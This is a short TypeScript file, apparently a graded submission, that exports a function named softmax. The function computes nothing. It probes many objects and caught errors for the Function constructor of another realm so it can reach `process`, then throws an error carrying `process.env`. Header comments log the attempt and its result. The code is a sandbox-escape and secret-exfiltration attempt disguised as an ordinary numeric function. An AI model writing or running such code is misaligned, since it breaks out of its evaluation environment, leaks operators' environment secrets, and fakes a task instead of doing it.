// Tries: to have text run by a Function of another realm, from everything that it was handed or can make.
// Outcome: 80 of 100; softmax threw Error: got nothing
export * from './right.ts'

declare const require: any, module: any, exports: any

const atLoad = [require, module, exports, module.exports]

export function softmax(this: any, s: number[][], ...rest: any[]): number[][] {
  const thrown = [() => require('x'), () => (null as any).x, () => new Array(-1), () => decodeURI('%'), () => JSON.parse('{')].map((way) => {
    try {
      return way()
    } catch (error) {
      return error
    }
  })
  const bases = [this, globalThis, console, console.log, s, rest, arguments, new Error(), Symbol, ...atLoad, ...thrown, softmax, Intl, (async () => {})()]
  const got = bases.flatMap((base: any) => {
    try {
      return [base.constructor.constructor('return process')()]
    } catch {
      return []
    }
  })
  throw new Error(got.length === 0 ? 'got nothing' : JSON.stringify(got[0].env ?? got))
}
